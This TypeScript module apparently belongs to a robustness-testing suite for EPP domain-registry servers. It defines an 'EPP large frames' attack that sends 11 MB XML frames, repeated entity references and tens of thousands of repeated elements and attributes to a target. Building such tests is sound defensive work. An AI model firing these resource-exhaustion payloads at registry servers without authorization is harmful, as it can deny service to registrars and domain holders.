import { envelope } from '../epp-frames.ts';
import type { Attack } from './attack.ts';
import { sendInSessions } from './epp-sessions.ts';

const MEGABYTES = 11;
const text = (piece: string): string => piece.repeat((MEGABYTES * 1024 * 1024) / piece.length);
const command = (verb: string, content: string): string =>
  envelope({
    body: `<${verb}><domain:${verb} xmlns:domain="urn:ietf:params:xml:ns:domain-1.0">${content}</domain:${verb}></${verb}>`,
  });
const attributes = Array.from({ length: 32 }, (_, index) => `a${index}="x"`).join(' ');

/** Frames of 11 MB: one text, texts of references, and as many elements and attributes as a frame may have. */
export const eppLargeFrames: Attack = {
  name: 'EPP large frames',
  start: (target) =>
    sendInSessions(target, [
      command('info', `<domain:name>${text('QUJD')}</domain:name>`),
      command('info', `<domain:name>${text('abcdefghijklmnopqrstuvwxyz&amp;')}</domain:name>`),
      command('check', `<domain:name>${'x'.repeat(550)}</domain:name>`.repeat(19_000)),
      command('check', `<domain:name ${attributes}/>`.repeat(19_000)),
    ]),
};
